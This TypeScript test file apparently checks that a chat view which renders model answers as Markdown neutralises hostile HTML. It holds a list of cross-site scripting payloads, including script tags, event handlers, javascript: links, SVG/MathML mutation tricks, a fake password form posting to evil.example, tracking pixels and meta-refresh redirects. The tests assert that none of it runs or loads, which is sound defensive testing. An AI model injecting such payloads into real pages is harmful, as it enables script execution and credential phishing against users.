import assert from 'node:assert/strict';
import { answer, changed, conversation, surroundings, user } from './samples.ts';
import { eachView } from './shared.ts';
import type { View } from './view.ts';

// Text that a model may have been talked into writing. None of it may run, load, navigate or dress up as the view itself.
const attacks: Record<string, string> = {
  'a script': '<script>window.hit = 1</script>',
  'a script in allowed tags': '<details><summary>x</summary><script>window.hit = 1</script></details>',
  'a handler on a picture': '<img src=x onerror="window.hit = 1">',
  'a handler on allowed tags': '<b onclick="window.hit = 1" onmouseover="window.hit = 1">bold</b>',
  'an SVG': '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
  'an SVG inside a paragraph': 'see <svg><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>',
  'MathML that turns into HTML':
    '<math><mtext><table><mglyph><style><img src=x onerror="window.hit=1"></style></mglyph></table></mtext></math>',
  'a frame': '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  'a form': '<form action="https://evil.example"><input name="password" autofocus><button>Sign in</button></form>',
  'a style': '<style>.composer { display: none }</style><p style="position:fixed;inset:0">cover</p>',
  'a class of ours': '<div class="box error" id="app">Your account is closed</div>',
  'a link that runs':
    '[click](javascript:window.hit=1) <a href="JaVaScRiPt:window.hit=1">me</a> [d](data:text/html,x) [v](vscode://x)',
  'a link with a target': '<a href="https://evil.example" target="_top" ping="https://evil.example">go</a>',
  'a remote picture':
    '![a chart](https://evil.example/pixel.png) and <img src="https://evil.example/p2.png" alt="another">',
  'a picture of no kind': '![alt](data:image/png;base64,AAAA)',
  'an object and a base':
    '<object data="https://evil.example"></object><base href="https://evil.example"><link rel=stylesheet href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">',
  'a video':
    '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
  'a forged code block': '<div data-code="0">x</div>\n\n- item\n\n  ```js\n  1\n  ```',
  'a language that breaks out': '```"><img src=x onerror=window.hit=1>\ncode\n```',
  'a file name that breaks out': '```ts title="<img/src=x/onerror=window.hit=1>.ts"\ncode\n```',
  'code with tags': '```html\n<script>window.hit = 1</script>\n```\n\n`<img src=x onerror=window.hit=1>`',
};

/** What a parser of HTML would tell the page's policy of, were it given to one; in places where Markdown takes it for HTML. */
const reported = [
  '<div style="color:red" onclick="hit()">x</div>',
  '<p style="position:fixed">x</p>',
  '<b style=x onmouseover=hit()>x</b>',
  '<details open ontoggle=hit() style="x:y"><summary style=x>s</summary>x</details>',
  '<table style="width:9px"><tr><td style="x">1</td></tr></table>',
  '<img srcset="https://evil.example/1 1x, https://evil.example/2 2x" src=x style=x onerror=hit()>',
  '<svg style="x"><style>*{}</style><use href="https://evil.example/#x"/></svg>',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<link rel="stylesheet" href="https://evil.example">',
  '<a href="https://evil.example" style="x" onclick="hit()">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<template><p style="x"></p></template>',
  '<math><mi style="x" xlink:href="data:x">x</mi></math>',
  '<br style="x"><kbd style="x">x</kbd><sub onclick=hit()>x</sub>',
  '<input onfocus=hit() autofocus style="x"><marquee onstart=hit()>x</marquee>',
];

describe('chat view: what a model writes has no powers', () => {
  let view: View;
  eachView((opened) => {
    view = opened;
  });

  for (const [name, text] of Object.entries(attacks)) {
    it(`${name} does nothing`, async () => {
      const requested = view.requests.length;
      await view.tell(surroundings(), conversation([user('Hi'), answer(text)]));
      for (const link of await view.page.locator('.answer .markdown a').all()) await link.click();
      for (const bold of await view.page.locator('.answer .markdown b').all()) await bold.click();
      const hit = await view.page.evaluate(`new Promise((done) => setTimeout(() => done(window.hit)))`);
      assert.equal(hit, undefined, 'ran');
      const forbidden =
        'script, style, svg:not(.codicon > svg), math, img, iframe, object, embed, form, input, video, audio, link, base, meta';
      assert.equal(await view.page.locator('.answer .markdown').locator(forbidden).count(), 0, 'let through');
      assert.equal(
        await view.page.locator('.answer .block').locator('[style], [id], [onerror], [onclick], .box').count(),
        0,
      );
      assert.deepEqual(view.requests.slice(requested), [], 'loaded');
      assert.deepEqual(await view.page.evaluate('fake.violations'), [], 'left to the policy');
      for (const message of await view.said()) {
        if (message.type === 'openLink') assert.match(message.href, /^https:\/\/evil\.example/);
      }
      assert.match(view.page.url(), /^http:\/\/127\.0\.0\.1/);
      await view.composer.fill('still here');
    });
  }

  it('gives the policy nothing to report: no tag of the text reaches a parser of HTML', async () => {
    const ways = [(html: string) => html, (html: string) => `In words ${html} here`, (html: string) => `- ${html}`];
    ways.push(
      (html) => `> ${html}`,
      (html) => `| a |\n|---|\n| ${html} |`,
      (html) => `# ${html}`,
      (html) => `[${html}](https://x.y)`,
    );
    const answers = reported.flatMap((html) => ways.map((way) => answer(way(html))));
    for (let at = 0; at < answers.length; at += 20) {
      const shown = answers.slice(at, at + 20);
      await view.tell(surroundings(), conversation(shown, { id: crypto.randomUUID() }));
      await view.tell(changed(shown.map((one) => ({ ...one, state: 'running' as const }))));
    }
    assert.deepEqual(await view.page.evaluate('fake.violations'), []);
    assert.equal(
      await view.page.locator('.answer .block').locator('[style], [onclick], [srcset], img, svg').count(),
      0,
    );
    await view.tell(conversation([answer(reported.join('\n\n'))], { id: crypto.randomUUID() }));
    const text = await view.page.locator('.answer .markdown').innerText();
    for (const html of reported) assert.ok(text.includes(html.slice(0, 12)), html);
  });

  it('shows tags and comments that are spoken of in prose, and draws keys, indices and breaks in a table', async () => {
    await view.tell(conversation([answer('Put a `<p>` or <div> in the <table>, not <!-- this -->, a <b> or <br>.')]));
    const text = () => view.page.locator('.answer .markdown').innerText();
    assert.equal(await text(), 'Put a <p> or <div> in the <table>, not <!-- this -->, a <b> or <br>.');
    await view.tell(
      conversation([
        answer('H<sub>2</sub>O, <KBD>Enter</KBD>, a <kbd> alone, <sup>a<sub>b</sup>.\n\n| a |\n|---|\n| x<br/>y |'),
      ]),
    );
    assert.match(await text(), /^H2O, Enter, a <kbd> alone, <sup>a<sub>b<\/sup>\./);
    assert.deepEqual(await view.page.locator('.answer').locator('sub, kbd, sup, td > br').count(), 3);
  });

  it('shows a picture as its words and a link', async () => {
    await view.tell(conversation([answer('![a chart](https://example.org/c.png)')]));
    const link = view.page.getByRole('link', { name: 'Image: a chart' });
    await link.click();
    assert.deepEqual(await view.until('openLink'), { type: 'openLink', href: 'https://example.org/c.png' });
  });

  it('shows tags that it does not allow as they were written', async () => {
    await view.tell(conversation([answer('Use <Suspense> around it, or <form>, then <kbd>Enter</kbd>.')]));
    const text = await view.page.locator('.answer .markdown').innerText();
    assert.equal(text, 'Use <Suspense> around it, or <form>, then Enter.');
  });

  it('hands a link to the host, whichever button or key follows it', async () => {
    await view.tell(conversation([answer('[docs](https://example.org/a?b=c#d)')]));
    const link = view.page.getByRole('link', { name: 'docs' });
    assert.equal(await link.getAttribute('title'), 'https://example.org/a?b=c#d');
    await link.click();
    await link.click({ button: 'middle' });
    await link.click({ modifiers: ['Control'] });
    await link.press('Enter');
    await view.until('openLink', 4);
    assert.equal(view.page.context().pages().length, 1);
    assert.match(view.page.url(), /^http:\/\/127\.0\.0\.1/);
  });

  it("shows a user's words as they were typed", async () => {
    await view.tell(conversation([user('<b>not bold</b> **nor this**\n  kept')]));
    assert.equal(await view.page.locator('.said').innerText(), '<b>not bold</b> **nor this**\n  kept');
  });
});
